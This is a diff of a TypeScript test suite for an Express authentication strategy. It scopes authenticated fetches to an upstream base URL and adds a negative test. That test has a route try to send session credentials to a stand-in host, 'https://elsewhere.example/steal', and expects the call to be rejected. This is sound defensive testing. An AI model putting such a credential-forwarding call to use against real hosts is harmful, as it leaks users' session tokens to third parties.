@@ -31,7 +31,7 @@ interface App {
 function buildApp(express: Express, rig: UpstreamRig): App {
   const logs: string[] = [];
   const authenticator = new passport.Passport();
-  const strategy = rig.strategy({}, async (account) => ({
+  const strategy = rig.strategy({ baseURL: rig.fake.url }, async (account) => ({
     id: account.subject,
     name: account.username,
   }));
@@ -64,10 +64,18 @@ function buildApp(express: Express, rig: UpstreamRig): App {
   });
   app.get('/profile', async (req: Request, res: Response, next: NextFunction) => {
     try {
-      const answer = await strategy.fetch(req, `${rig.fake.url}/auth/user`);
+      const answer = await strategy.fetch(req, '/auth/user');
       res.status(answer.status).json(await answer.json());
     } catch (error) {
       next(error);
+    }
+  });
+  app.get('/elsewhere', async (req: Request, res: Response) => {
+    try {
+      await strategy.fetch(req, 'https://elsewhere.example/steal');
+      res.json({ sent: true });
+    } catch (error) {
+      res.status(400).json({ error: (error as Error).name });
     }
   });
   app.post('/logout', async (req: Request, res: Response, next: NextFunction) => {
@@ -134,6 +142,9 @@ describe.each([
 
     const profile = await record(request(app).get('/profile').set('cookie', cookie!));
     expect(profile.status).toBe(200);
+    // The session's credentials go to the upstream's origin only.
+    const elsewhere = await request(app).get('/elsewhere').set('cookie', cookie!);
+    expect(elsewhere.body).toEqual({ error: 'TypeError' });
     expect(profile.body).toMatchObject({ username: 'asha' });
 
     // Past the access token's refresh point: pages that do not call the upstream refresh nothing
